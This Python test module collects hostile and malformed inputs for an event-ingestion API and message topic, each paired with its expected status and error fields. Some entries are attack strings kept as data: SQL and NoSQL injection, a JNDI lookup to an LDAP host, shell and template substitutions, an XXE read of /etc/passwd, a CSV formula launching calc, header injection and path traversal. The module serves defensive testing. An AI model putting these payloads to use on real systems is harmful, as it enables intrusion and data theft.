"""Hostile inputs with the answers that docs/http.md documents.

Every input that once caused a failure is added here, and sent over each path into the platform.
"""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, NamedTuple, Self

from entities.base import id_field
from entities.fields import MAX_ID_BYTES
from ingestion.event import MAX_EVENT_BYTES
from ingestion.intake.submission import MAX_EVENTS
from tests.support.factories import (
    NOT_JSON,
    Json,
    cloudevent,
    contract,
    deletion,
    equipment,
    event_fields,
    event_of_bytes,
    milestone,
    submission,
)

JSON = "application/json"
PROBLEM = "application/problem+json"

STORED = "stored"
UNROUTED = "unrouted"

INVALID_ENTITY = "invalid_entity"
INVALID_EVENT = "invalid_event"
TOO_LARGE = "too_large"
UNKNOWN_ENTITY = "unknown_entity"
WRONG_SOURCE = "wrong_source"


class Fault(NamedTuple):
    """The error that the answer reports for the event at this place of the request."""

    place: int
    reason: str
    field: str


class Answer(NamedTuple):
    """The parts of an API answer that are compared. `statuses` has the status of each event."""

    status: int
    content_type: str
    statuses: list[str]
    faults: list[Fault]

    @classmethod
    def read(cls, status: int, content_type: str, text: str | bytes) -> Self:
        """Read an answer, which must be a problem document if its status is an error."""
        document = json.loads(text)
        if status >= 400:
            assert document["status"] == status
            assert document["title"]
            assert document["detail"]
        return cls(
            status,
            content_type,
            [event["status"] for event in document.get("events", [])],
            [Fault(e["index"], e["reason"], e["field"]) for e in document.get("errors", [])],
        )


@dataclass(frozen=True)
class Request:
    """A request to the API. A `body` of bytes is sent unchanged, any other as JSON."""

    name: str
    status: int
    body: Any
    faults: tuple[Fault, ...] = ()
    path: str = "b"
    method: str = "POST"
    key: str | None = "sourceB"  # A source whose key is sent, or the key itself.
    headers: Mapping[str, str] = field(default_factory=dict)

    @property
    def content(self) -> bytes:
        """Return the bytes of the body."""
        return self.body if isinstance(self.body, bytes) else json.dumps(self.body).encode()

    @property
    def items(self) -> list[Any]:
        """Return the items that the API checks one by one, if any."""
        if self.status not in (202, 207, 422) and not self.faults:
            return []
        document = json.loads(self.content)
        return document if isinstance(document, list) else [document]

    @property
    def answer(self) -> Answer:
        """Return the documented answer."""
        refused = {fault.place for fault in self.faults}
        statuses = ["rejected" if n in refused else "accepted" for n in range(len(self.items))]
        return Answer(self.status, JSON if self.status < 400 else PROBLEM, statuses, [*self.faults])

    @property
    def accepted(self) -> list[Json]:
        """Return the accepted items."""
        statuses = zip(self.items, self.answer.statuses, strict=True)
        return [item for item, status in statuses if status == "accepted"]

    @property
    def event_count(self) -> int:
        """Return how many events the request makes. Equal items with an id are one event."""
        named = {json.dumps(item, sort_keys=True) for item in self.accepted if item.get("id")}
        return len(named) + sum(1 for item in self.accepted if not item.get("id"))

    @property
    def rows(self) -> dict[str, Json]:
        """Return the stored entities by key, exactly as sent."""
        return {
            f"{item['entity_name']}#{item['body'][id_field(item['entity_name'])]}": item["body"]
            for item in self.accepted
            if item.get("operation") != "delete"
        }


@dataclass(frozen=True)
class Message:
    """A message on the topic, which ends as `STORED`, `UNROUTED`, or as a dead letter.

    A dead letter waits in the queue of the source that the attribute names. `end` is its reason.
    Its detail begins with the field `fault`.
    """

    name: str
    end: str
    body: str
    fault: str = ""
    source: str = "sourceB"
    attributes: Mapping[str, str] = field(default_factory=dict)


def accepted(name: str, body: Any, **sent: Any) -> Request:
    return Request(name, 202, body, **sent)


def refused(name: str, body: Any, reason: str, *fields: str, **sent: Any) -> Request:
    """Make a request with one event that has an error in each of the fields."""
    return Request(name, 422, body, tuple(Fault(0, reason, f) for f in fields), **sent)


def no_event(name: str, **changes: Any) -> Request:
    """Make a valid post of a contract, then change these fields of the event."""
    return refused(name, submission() | changes, INVALID_EVENT, *changes)


def no_entity(name: str, **changes: Any) -> Request:
    """Make a valid post of a contract, then change these fields of the contract."""
    inside = (f"body.{each}" for each in changes)
    return refused(name, submission(contract() | changes), INVALID_ENTITY, *inside)


def of_bytes(size: int) -> Json:
    """Make a post whose event has exactly this many bytes."""
    event_id = f"{size} bytes"
    return submission(event_of_bytes(size, id=event_id).data, id=event_id)


def nested(levels: int) -> Any:
    return json.loads("[" * levels + "]" * levels)


# Ids that logs, terminals or URLs do not show alike.
BAD_IDS = {
    "nothing": "",
    "a blank alone": " ",
    "a blank before": " c",
    "a blank after": "c\u00a0",
    "separator": "c#1",
    "NUL": "c\0",
    "new line": "c\n1",
    "terminal command": "\x1b[31mc",
    "delete character": "c\x7f",
    "zero width": "c\u200b1",
    "byte order mark": "\ufeffc",
    "joined emoji": "👩\u200d👧",
    "line separator": "c\u20281",
    "right-to-left override": "c\u202e1",
    "Hebrew": "\u05e9",
    "Arabic digit": "c\u0661",
    "combining": "e\u0301",
    "not in NFC": "\u212b",
    "private use": "c\ue000",
    "noncharacter": "c\uffff",
    "unassigned": "c\u0378",
    "513 bytes": "c" * (MAX_ID_BYTES + 1),
    "514 bytes in 257 characters": "é" * (MAX_ID_BYTES // 2 + 1),
}

GOOD_IDS = {
    "512 bytes": "é" * (MAX_ID_BYTES // 2),
    "emoji": "🚜",
    "Chinese": "合同一",
    "blank within": "c 1",
    "path": "../../etc/passwd",
    "SQL": "'; DROP TABLE entities; --",
    "percent": "%00%2e%2e%2f",
    "replacement character": "c\ufffd",
    "prototype": "__proto__",
}

BAD_TIMES = {
    "nothing": "",
    "a word": "now",
    "no offset": "2026-01-31T12:00:00",
    "date": "2026-01-31",
    "epoch number": 1769860800,
    "epoch text": "1769860800",
    "year 0000": "0000-01-01T00:00:00Z",
    "year 10000": "10000-01-01T00:00:00Z",
    "negative year": "-2026-01-31T12:00:00Z",
    "leap second at noon": "2016-12-31T12:00:60Z",
    "24:00": "2026-01-31T24:00:00Z",
    "month 13": "2026-13-01T00:00:00Z",
    "February 30": "2026-02-30T00:00:00Z",
    "offset of a day": "2026-01-31T12:00:00+24:00",
    "offset without colon": "2026-01-31T12:00:00+0100",
    "before year 1 in UTC": "0001-01-01T00:00:00+01:00",
    "after year 9999 in UTC": "9999-12-31T23:59:59-01:00",
    "week": "2026-W05-6T12:00:00Z",
    "year 1": "0001-01-01T00:00:00Z",
    "before 1970": "1969-12-31T23:59:59.999999Z",
    "year 9999": "9999-12-31T23:59:59.999999Z",
    "full-width digits": "\uff12\uff10\uff12\uff16-01-31T12:00:00Z",
    "new line after it": "2026-01-31T12:00:00Z\n",
    "list": ["2026-01-31T12:00:00Z"],
    "true": True,
}

GOOD_TIMES = {
    "small letters": "2026-01-31t12:00:00z",
    "blank for T": "2026-01-31 12:00:00Z",
    "nanoseconds": "2026-01-31T12:00:00.123456789Z",
    "unknown offset": "2026-01-31T12:00:00-00:00",
    "1970": "1970-01-01T00:00:00Z",
    "leap second": "2016-12-31T23:59:60Z",
    "null": None,
}

# The platform never runs, opens or expands a value, so these are stored unchanged.
GOOD_TEXTS = {
    "SQL": "'; DROP TABLE entities; --",
    "PartiQL": "x' OR '1'='1",
    "NoSQL": '{"$ne": null}',
    "condition": "attribute_exists(ID) OR :time = :time",
    "format string": "%s%n{0.__class__}${jndi:ldap://192.0.2.1/x}",
    "template": "{{7*7}}<%= 7 %>#{7}$(id)`id`",
    "XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "HTML": "<script>alert(1)</script>",
    "CSV formula": "=HYPERLINK(0)+cmd|' /C calc'!A0",
    "header": "x\r\nX-Api-Key: y\r\n\r\n{}",
    "control characters": "\0\x01\x1b[2J\x7f\x85",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "replacement character": "\ufffd",
    "right to left": "\u202e\u05e9\u05dc\u05d5\u05dd\u2066",
    "combining": "e" + "\u0301" * 200,
    "number": "1e999",
    "blanks": " \t\n\u00a0\u2028 ",
    "nothing": "",
}

BAD_VALUES = {
    "null": None,
    "number": 7,
    "fraction": 0.5,
    "true": True,
    "list": ["active"],
    "operator": {"$ne": None},
    "150 levels": nested(150),
}

UNKNOWN_FIELDS = (
    *("__class__", "__proto__", "constructor", "$where", "CONTRACT_ID", "contract_id ", "a.b"),
    *("ID", "ENTITY_NAME", "_event", "", "\0"),
)

VALID = submission(contract("valid"))
VALID_BYTES = json.dumps(VALID).encode()

BAD_JSON = {
    **NOT_JSON,
    "NUL": b"\0",
    "UTF-16 without a mark": VALID_BYTES.decode().encode("utf-16-le"),
    "UTF-32": VALID_BYTES.decode().encode("utf-32"),
    "Latin-1": '{"id": "é"}'.encode("latin-1"),
    "single quotes": b"{'id': '1'}",
    "no quotes": b"{id: 1}",
    "comma at the end": b'{"id": "1",}',
    "comment": b'/* */ {"id": "1"}',
    "JSON lines": VALID_BYTES + b"\n" + VALID_BYTES,
    "form": b"entity_name=CONTRACT&body[contract_id]=1",
    "XML": b'<?xml version="1.0"?><entity_name>CONTRACT</entity_name>',
    "CSV": b"contract_id,contract_name\nc-1,Turbines\n",
    "Python": b'{"id": True}',
    "hexadecimal": b'{"id": 0x10}',
    "octal": b'{"id": 010}',
    "plus sign": b'{"id": +1}',
    "fraction without zero": b'{"id": .5}',
    "unknown escape": rb'{"id": "\x41"}',
    "short escape": rb'{"id": "\u12"}',
    "202 levels": b'{"id": ' + b"[" * 201 + b"]" * 201 + b"}",
    "4,301 digits": b'{"id": ' + b"9" * 4_301 + b"}",
}

BAD_CONTENT_TYPES = (
    "",
    "text/plain",
    "application/xml",
    "application/x-www-form-urlencoded",
    "application/cloudevents+avro",
    "application/cloudevents",
    "application/json, application/json",
    "application/json; charset=latin-1",
    "application/json; charset=utf-16",
    "application/json; charset=utf-8; charset=utf-7",
    "application/json; charset",
    'application/json; profile="a',
)

BAD_PATHS = (
    *("", "d", "B", "sourceB", "/b", "b/c", "./b", "b/.", "b/..", "a/../b", "%2e%2e/b", "..;/b"),
    *("b%00", "b%20", "b%0a", "b%25", "b%C3%28", "b;v=1", "*", "b" * 5_000),
)

ABOUT_THE_REQUEST = (
    *(Request(f"not JSON: {name}", 400, body) for name, body in BAD_JSON.items()),
    Request("6 MB and a byte", 413, VALID_BYTES.ljust(6 * 1024**2 + 1)),
    Request("501 events", 413, [VALID] * (MAX_EVENTS + 1)),
    *(
        Request(f"content type: {value!r}", 415, VALID, headers={"Content-Type": value})
        for value in BAD_CONTENT_TYPES
    ),
    *(
        Request(f"content encoding: {value}", 415, VALID, headers={"Content-Encoding": value})
        for value in ("gzip", "br", "unknown", "identity, gzip")
    ),
    Request("key: none", 403, VALID, key=None),
    Request("key: empty", 403, VALID, key=""),
    Request("key: another source's", 403, VALID, key="sourceA"),
    Request("key: another path's", 403, VALID, path="a"),
    Request("key: not ASCII", 403, VALID, key="é" * 30),
    Request("key: 10,000 characters", 403, VALID, key="k" * 10_000),
    Request("key: two", 403, VALID, key="one,two"),
    Request("key: elsewhere", 403, VALID, key=None, headers={"Authorization": "Bearer x"}),
    Request("key: none, and no JSON", 403, b"{", key=None),
    *(Request(f"path: {path[:20]!r}", 404, VALID, path=path) for path in BAD_PATHS),
    *(
        Request(f"method: {method}", 405, VALID, method=method)
        for method in ("GET", "PUT", "PATCH", "DELETE")
    ),
)

ABOUT_EVENTS = (
    Request("no event", 422, []),
    *(
        refused(f"no object: {text.decode()}", text, INVALID_EVENT, "")
        for text in (b"null", b"-0", b"1e99999", b"true", b'"{}"', b"[[]]", b'[[{"id": "1"}]]')
    ),
    refused("no object: 201 levels", b"[" * 201 + b"]" * 201, INVALID_EVENT, ""),
    refused("no object: 210 levels in an array", b"[" * 210 + b"]" * 210, INVALID_EVENT, ""),
    refused("no object: half of a surrogate pair", rb'["\ud800"]', INVALID_EVENT, ""),
    Request("a byte order mark before an event", 202, b"\xef\xbb\xbf" + VALID_BYTES),
    refused("no fields", {}, INVALID_EVENT, "entity_name", "body"),
    *(no_event(f"entity name: {name}", entity_name=value) for name, value in BAD_VALUES.items()),
    *(
        refused(
            f"entity name: {value!r}", submission(entity_name=value), UNKNOWN_ENTITY, "entity_name"
        )
        for value in (
            "",
            "contract",
            "CONTRACT ",
            "CONTRACT\0",
            "CONTRACTS",
            "__class__",
            "EQUIPMENT",
        )
    ),
    *(
        no_event(f"body: {name}", body=value)
        for name, value in (BAD_VALUES | {"text": "{}"}).items()
        if name != "operator"
    ),
    *(no_event(f"id: {name}", id=value) for name, value in BAD_VALUES.items() if name != "null"),
    *(no_event(f"id: {v!r:.20}", id=v) for v in ("", "x" * 257, "\0", "1\n", "\u200b", "\u202e")),
    *(no_event(f"time: {name}", time=value) for name, value in BAD_TIMES.items()),
    *(no_event(f"operation: {v!r}", operation=v) for v in (None, "", "DELETE", "drop", ["delete"])),
    no_event("source: number", source=7),
    *(
        refused(f"source: {value!r}", submission(source=value), WRONG_SOURCE, "source")
        for value in ("sourceA", "sourceb", "sourceB ", "", "*")
    ),
    *(no_event(f"unknown field: {name!r}", **{name: "x"}) for name in UNKNOWN_FIELDS),
    *(no_entity(f"unknown field in the body: {name!r}", **{name: "x"}) for name in UNKNOWN_FIELDS),
    refused(
        "unknown field: a long name",
        submission() | {"x" * 1_000: 1},
        INVALID_EVENT,
        "x" * 100 + "…",
    ),
    Request(
        "twelve unknown fields",
        422,
        submission(contract() | {f"x{n}": n for n in range(12)}),
        (
            *(Fault(0, INVALID_ENTITY, f"body.x{n}") for n in range(10)),
            Fault(0, INVALID_ENTITY, ""),
        ),
    ),
    refused(
        "empty body",
        submission({}),
        INVALID_ENTITY,
        *("body.contract_id", "body.contract_name", "body.contract_type", "body.contract_status"),
    ),
    *(no_entity(f"entity id: {name}", contract_id=value) for name, value in BAD_IDS.items()),
    *(no_entity(f"entity id: a {n}", contract_id=value) for n, value in BAD_VALUES.items()),
    *(
        no_entity(f"text that is none: {name}", contract_name=value)
        for name, value in BAD_VALUES.items()
    ),
    no_entity("text: number of 4,300 digits", contract_name=10**4_299),
    *(no_entity(f"code: {v!r}", contract_status=v) for v in ("", "Active", "active ", "%", None)),
    refused(
        "a date that is none",
        submission(milestone(end_date="2026-02-30"), entity_name="MILESTONE"),
        INVALID_ENTITY,
        "body.end_date",
        path="c",
        key="sourceC",
    ),
    refused(
        "ends before it starts",
        submission(
            milestone(start_date="2026-02-02", end_date="2026-02-01"), entity_name="MILESTONE"
        ),
        INVALID_ENTITY,
        "body",
        path="c",
        key="sourceC",
    ),
    refused(
        "its own parent",
        submission(equipment("e", parent_equipment_id="e"), entity_name="EQUIPMENT"),
        INVALID_ENTITY,
        "body",
        path="a",
        key="sourceA",
    ),
    refused(
        "delete with more than the id",
        submission(operation="delete"),
        INVALID_ENTITY,
        *("body.contract_name", "body.contract_type", "body.contract_status"),
    ),
    refused(
        "delete without id", submission({}, operation="delete"), INVALID_ENTITY, "body.contract_id"
    ),
    refused("delete of a bad id", deletion("c#1"), INVALID_ENTITY, "body.contract_id"),
    refused(
        "delete by operator",
        submission({"contract_id": {"$ne": None}}, operation="delete"),
        INVALID_ENTITY,
        "body.contract_id",
    ),
    Request("240 KB and a byte", 413, of_bytes(MAX_EVENT_BYTES + 1), (Fault(0, TOO_LARGE, ""),)),
    Request(
        "too large beside invalid",
        422,
        [of_bytes(MAX_EVENT_BYTES + 2), None],
        (Fault(0, TOO_LARGE, ""), Fault(1, INVALID_EVENT, "")),
    ),
)

CLOUDEVENT = {"Content-Type": "application/cloudevents+json"}
BATCH = {"Content-Type": "application/cloudevents-batch+json"}
BINARY = {
    "ce-specversion": "1.0",
    "ce-id": "corpus",
    "ce-source": "sourceB",
    "ce-type": "contract.upsert",
}


def no_cloudevent(name: str, **changes: Any) -> Request:
    """Make a valid CloudEvent, then change these attributes."""
    return refused(
        f"CloudEvent: {name}",
        cloudevent() | changes,
        INVALID_EVENT,
        *changes,
        headers=CLOUDEVENT,
    )


def no_binary_event(name: str, field: str, **headers: str) -> Request:
    """Make a valid CloudEvent in headers, then change these headers."""
    changed = {f"ce-{header}": value for header, value in headers.items()}
    return refused(f"binary: {name}", contract(), INVALID_EVENT, field, headers=BINARY | changed)


BAD_DATA: tuple[Any, ...] = (None, "{}", [], 7, nested(150))

ABOUT_CLOUDEVENTS = (
    *(no_cloudevent(f"version {v!r}", specversion=v) for v in ("0.3", "1", "1.0.2", 1.0, None)),
    *(no_cloudevent(f"type {v!r}", type=v) for v in ("contract", "Contract.upsert", "a#b.upsert")),
    *(no_cloudevent(f"time: {name}", time=value) for name, value in BAD_TIMES.items()),
    *(no_cloudevent(f"attribute {v!r}", **{v: 1}) for v in ("Id", "__class__", "a.b", "a b", "")),
    *(no_cloudevent(f"data: {value!r:.20}", data=value) for value in BAD_DATA),
    no_cloudevent("XML", datacontenttype="application/xml"),
    no_cloudevent("another's subject", subject="c-2"),
    no_cloudevent("data twice", data_base64="e30="),
    refused(
        "CloudEvent: another source",
        cloudevent(source="/sourceB"),
        WRONG_SOURCE,
        "source",
        headers=CLOUDEVENT,
    ),
    refused(
        "CloudEvent: another's entity",
        cloudevent(type="equipment.upsert"),
        UNKNOWN_ENTITY,
        "type",
        headers=CLOUDEVENT,
    ),
    refused("CloudEvent: a batch", [cloudevent()], INVALID_EVENT, "", headers=CLOUDEVENT),
    Request("CloudEvents: an empty batch", 202, [], headers=BATCH),
    Request("CloudEvents: 501", 413, [cloudevent()] * (MAX_EVENTS + 1), headers=BATCH),
    Request("CloudEvent: no JSON", 400, b"{", headers=CLOUDEVENT),
    *(
        no_binary_event(f"id {value!r}", "id", id=value)
        for value in ("%", "%zz", "%C0%A0", "%ED%A0%80", "%00", "%E2%80%AE")
    ),
    no_binary_event("data twice", "data", data="{}"),
    no_binary_event("content type twice", "datacontenttype", datacontenttype="application/json"),
    no_binary_event("attribute", "under_score", under_score="1"),
    refused("binary: an array", [contract()], INVALID_EVENT, "data", headers=BINARY),
    Request("binary: no JSON", 400, b"{", headers=BINARY),
    Request("binary: XML", 415, b"<a/>", headers=BINARY | {"Content-Type": "text/xml"}),
)

HARMLESS = (
    *(
        accepted(f"text: {name}", submission(contract(f"text {name}", contract_name=value)))
        for name, value in GOOD_TEXTS.items()
    ),
    *(accepted(f"entity id: {n}", submission(contract(value))) for n, value in GOOD_IDS.items()),
    *(
        accepted(f"time: {name}", submission(contract(f"time {name}"), time=value))
        for name, value in GOOD_TIMES.items()
    ),
    *(
        accepted(f"id: {name}", submission(contract(f"id {name}"), id=value))
        for name, value in {
            "256 characters": "é" * 256,
            "1,024 bytes": "🚜" * 256,
            "blank within": "a b",
            "separator": "#",
            "prototype": "__proto__",
            "replacement character": "\ufffd",
            "null": None,
        }.items()
    ),
    *(
        accepted(f"content type: {value}", VALID, headers={"Content-Type": value})
        for value in (
            "Application/JSON",
            'application/json ; charset="UTF-8"',
            "application/json; charset=us-ascii",
            "application/json; profile=x; charset=utf-8",
        )
    ),
    accepted("content encoding: identity", VALID, headers={"Content-Encoding": "identity"}),
    accepted("another source in a header", VALID, headers={"Source": "sourceA"}),
    accepted(
        "half a CloudEvent in headers",
        VALID,
        headers={"ce-source": "sourceA", "ce-type": "contract.delete", "ce-id": "%"},
    ),
    accepted("another source in the query", VALID, path="b?source=sourceA&x-api-key=1"),
    accepted("a slash after the path", VALID, path="b/"),
    accepted("blanks around it", b" \r\n\t" + VALID_BYTES + b"\n"),
    accepted("escaped throughout", VALID_BYTES.replace(b"CONTRACT", rb"\u0043ONTRACT")),
    accepted("a key twice: the last counts", b'{"entity_name": "EQUIPMENT", ' + VALID_BYTES[1:]),
    accepted("source is null", submission(contract("source null"), source=None)),
    accepted("delete of what was never there", deletion("never there")),
    accepted("240 KB", of_bytes(MAX_EVENT_BYTES)),
    accepted(
        "an id for two entities",
        [submission(contract(f"shares an id {n}"), id="shared") for n in (1, 2)],
    ),
    accepted("500 times the same event", [submission(contract("500"), id="500")] * MAX_EVENTS),
    accepted(
        "references to what is not there",
        submission(
            equipment("e-refers", contract_id="none", parent_equipment_id="none"),
            entity_name="EQUIPMENT",
        ),
        path="a",
        key="sourceA",
    ),
)

# Valid events beside invalid ones: only the valid ones are stored.
MIXED = (
    *(
        Request(
            f"beside {name}",
            207,
            [submission(contract(f"before {name}")), bad, submission(contract(f"after {name}"))],
            (Fault(1, reason, at),),
        )
        for name, bad, reason, at in (
            ("null", None, INVALID_EVENT, ""),
            ("an array", [submission()], INVALID_EVENT, ""),
            ("another source", submission(source="sourceA"), WRONG_SOURCE, "source"),
            (
                "another's entity",
                submission(entity_name="EQUIPMENT"),
                UNKNOWN_ENTITY,
                "entity_name",
            ),
            ("a bad time", submission(time="now"), INVALID_EVENT, "time"),
            ("a bad id", submission(contract("c#1")), INVALID_ENTITY, "body.contract_id"),
            ("240 KB and two bytes", of_bytes(MAX_EVENT_BYTES + 2), TOO_LARGE, ""),
        )
    ),
    Request(
        "a time ahead of the receipt",
        207,
        [submission(contract("in time")), submission(time="9999-12-31T23:59:59Z")],
        (Fault(1, INVALID_EVENT, "time"),),
    ),
    Request(
        "an id for two entities, the first is bad",
        207,
        [
            submission(contract("c#1"), id="shared with a bad one"),
            submission(contract("shares the id of a bad one"), id="shared with a bad one"),
        ],
        (Fault(0, INVALID_ENTITY, "body.contract_id"),),
    ),
    Request(
        "499 bad and a good one",
        207,
        [*[7] * (MAX_EVENTS - 1), submission(contract("the only good one"))],
        tuple(Fault(n, INVALID_EVENT, "") for n in range(MAX_EVENTS - 1)),
    ),
)

REQUESTS = (*ABOUT_THE_REQUEST, *ABOUT_EVENTS, *ABOUT_CLOUDEVENTS, *HARMLESS, *MIXED)


def text(**changes: Any) -> str:
    """Return the JSON of a valid contract event with these changes."""
    return json.dumps(event_fields() | changes)


def lacking(attribute: str) -> str:
    return json.dumps({name: v for name, v in event_fields().items() if name != attribute})


def attribute(name: str, *values: Any) -> tuple[Message, ...]:
    """Make events in which this attribute has each of the invalid values."""
    return tuple(
        Message(f"{name}: {value!r:.30}", INVALID_EVENT, text(**{name: value}), name)
        for value in values
    )


def invalid_data(name: str, fault: str, **changes: Any) -> Message:
    """Make an event of a contract with these changes of its data."""
    data = contract() | changes
    return Message(
        name, INVALID_ENTITY, text(data=data, subject=data["contract_id"]), f"data.{fault}"
    )


MESSAGES = (
    *(
        Message(f"not JSON: {name}", INVALID_EVENT, body)
        for name, body in {
            "text": "hello",
            "unfinished": text()[:-1],
            "more after the end": text() + text(),
            "XML": "<event/>",
            "Python": "{'id': '1'}",
            "escaped lone surrogate": text(data="?").replace("?", r"\ud800"),
            "NaN": text(data=float("nan")),
            "Infinity": text(data=float("inf")),
            "an exponent beyond all decimals": text(data="?").replace(
                '"?"', "1e99999999999999999999"
            ),
            "100,000 levels": "[" * 100_000,
            "5,000 digits": "9" * 5_000,
        }.items()
    ),
    *(Message(f"no object: {body}", INVALID_EVENT, body) for body in ("null", "7", '"{}"', "[]")),
    Message("an array of events", INVALID_EVENT, f"[{text()}]"),
    *(
        Message(f"without {name}", INVALID_EVENT, lacking(name), name)
        for name in ("id", "source", "type", "subject", "time", "receivedat", "data")
    ),
    *attribute("specversion", "0.3", "1", 1.0, None),
    *attribute("id", "", "x" * 257, "\0", 7, None),
    *attribute("source", 7, None),
    *attribute(
        "type", "contract", "contract.merge", "CONTRACT.upsert", ".upsert", "a#b.upsert", None
    ),
    *attribute("subject", 7, None, "c-2", "", "c-1 "),
    *attribute("time", "", "now", "2026-01-31", "2026-01-31T12:00:00", 1769860800, None),
    *attribute("time", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
    *attribute("receivedat", "", "2026-02-30T12:00:00Z", None),
    *attribute("data", None, [], "text", json.dumps(contract()), 7),
    Message("source: another's", WRONG_SOURCE, text(source="sourceA"), "source"),
    Message("source: nobody's", WRONG_SOURCE, text(source="rogue"), "source"),
    Message("source: in capitals", WRONG_SOURCE, text(source="SOURCEB"), "source"),
    Message("on another's queue", WRONG_SOURCE, text(), "source", source="sourceA"),
    Message("type: another's", UNKNOWN_ENTITY, text(type="equipment.upsert"), "entity_name"),
    Message("type: nobody's", UNKNOWN_ENTITY, text(type="rocket.delete"), "entity_name"),
    Message("type: prototype", UNKNOWN_ENTITY, text(type="base.upsert"), "entity_name"),
    Message("data: empty", INVALID_ENTITY, text(data={}), "data.contract_id"),
    Message(
        "delete of the whole", INVALID_ENTITY, text(type="contract.delete"), "data.contract_name"
    ),
    invalid_data("data: unknown field", "colour", colour="red"),
    invalid_data("data: the table's own field", "ENTITY_NAME", ENTITY_NAME="EQUIPMENT"),
    invalid_data("data: code", "contract_status", contract_status="ACTIVE"),
    invalid_data("data: number for text", "contract_name", contract_name=7),
    invalid_data("data: operator for text", "contract_name", contract_name={"$ne": None}),
    invalid_data("data: 150 levels", "contract_name", contract_name=nested(150)),
    invalid_data("data: fraction for text", "contract_name", contract_name=4.39),
    invalid_data("data: 4,000 digits", "contract_name", contract_name=10**3_999),
    invalid_data("data: id with the separator", "contract_id", contract_id="c#1"),
    invalid_data("data: id from right to left", "contract_id", contract_id="c\u202e1"),
    invalid_data("data: id of 513 bytes", "contract_id", contract_id="c" * (MAX_ID_BYTES + 1)),
    Message("source unknown to all", UNROUTED, text(), source="sourceX"),
    Message("source in capitals", UNROUTED, text(), source="SOURCEB"),
    Message("source with a blank", UNROUTED, text(), source="sourceB "),
    Message("unrouted and no JSON", UNROUTED, "hello", source="unrouted"),
    Message("valid", STORED, text()),
    Message(
        "attributes that CloudEvents allows", STORED, text(traceparent="00-1", datacontenttype="x")
    ),
    Message(
        "another entity in the attribute", STORED, text(), attributes={"entity_name": "EQUIPMENT"}
    ),
    Message("a time elsewhere", STORED, text(time="2026-01-31T13:00:00+01:00")),
    Message("a key twice: the last counts", STORED, '{"id": 7, ' + text()[1:]),
    Message("250 KB", STORED, text(data=contract(contract_name="x" * 250 * 1024))),
    Message("SQL", STORED, text(data=contract(contract_name="'; DROP TABLE entities; --"))),
)

# Each is a dead letter that a redrive would reject again, for the reason `end`.
REDRIVES = tuple(message for message in MESSAGES if message.end not in (STORED, UNROUTED))
